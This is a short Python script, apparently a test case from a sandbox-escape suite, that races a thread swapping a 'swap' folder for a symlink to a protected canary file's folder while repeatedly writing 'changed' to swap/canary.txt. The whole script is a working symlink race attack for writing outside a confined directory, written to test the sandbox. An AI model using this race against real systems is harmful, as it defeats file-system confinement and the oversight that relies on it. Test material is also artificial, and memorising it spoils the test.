"""Swaps a folder for a link while a file is written below it, again and again.

Escape: the canary file or its folder is changed.
Tiers: both
"""

import json
import os
import threading

P = json.load(open("/project/planted.json"))


folder = os.path.dirname(P["canary"])


def swap():
    for _ in range(2000):
        try:
            os.mkdir("swap")
            os.rmdir("swap")
            os.symlink(folder, "swap")
            os.unlink("swap")
        except OSError:
            pass


thread = threading.Thread(target=swap)
thread.start()
while thread.is_alive():
    try:
        open("swap/canary.txt", "w").write("changed")
    except OSError:
        pass
thread.join()
